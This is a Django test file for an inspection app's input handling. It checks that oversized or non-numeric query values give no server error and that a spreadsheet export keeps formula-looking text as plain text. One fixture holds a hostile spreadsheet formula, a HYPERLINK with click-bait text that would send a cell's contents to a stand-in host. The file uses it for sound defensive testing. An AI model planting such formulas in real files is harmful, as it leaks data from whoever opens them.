"""Bad input gets a clear answer, never a server error: numbers beyond 64 bits, digits that are
not ASCII ("²"), words where numbers belong, and a code with a slash."""

from __future__ import annotations

import io

from django.urls import reverse
from openpyxl import load_workbook

from onevisit.inspections.tests.base import VisitTestCase
from onevisit.lib.params import whole_number

HOSTILE = ["99999999999999999999", "9223372036854775808", "²", "abc", "-1", " ", "1e3"]


class HostileQueryTest(VisitTestCase):
    def test_it_reads_only_plain_bounded_whole_numbers(self) -> None:
        assert whole_number("42") == 42
        assert whole_number("²") is None and whole_number("9" * 20) is None
        assert whole_number("91", high=90) is None and whole_number("0", low=1) is None

    def test_it_answers_every_hostile_number_without_a_server_error(self) -> None:
        pages = [
            (self.alice, reverse("rectification:ledger"), "body"),
            (None, reverse("draws:draw_results"), "draw"),
            (self.alice, reverse("planning:rules"), "edit"),
            (self.alice, reverse("registry:enterprise_list"), "page"),
        ]
        for user, url, name in pages:
            client = self.client_for(user)
            for value in HOSTILE:
                response = client.get(url, {name: value})
                assert response.status_code < 500, (url, name, value, response.status_code)

    def test_it_drops_what_cannot_be_in_a_code(self) -> None:
        response = self.client_for(None).get(reverse("inspections:verify_entry"), {"code": "a/b"})
        assert response.status_code == 302 and response["Location"].endswith("/v/ab")


class SpreadsheetTest(VisitTestCase):
    """Spreadsheets are code: a name that looks like a formula comes back as text, and a control
    character stored by some other way does not break the export."""

    def test_it_exports_formula_looking_text_as_text(self) -> None:
        from onevisit.testing import make_enterprise

        trap = '=HYPERLINK("http://x/?leak="&B3,"点击查看详情")'
        make_enterprise(trap, serial=7, legal_representative="张\x05三")
        response = self.client_for(self.alice).get(reverse("registry:enterprise_export"))
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)  # nothing runs as a formula
        values = {cell.value for cell in cells}
        assert trap in values and "张三" in values
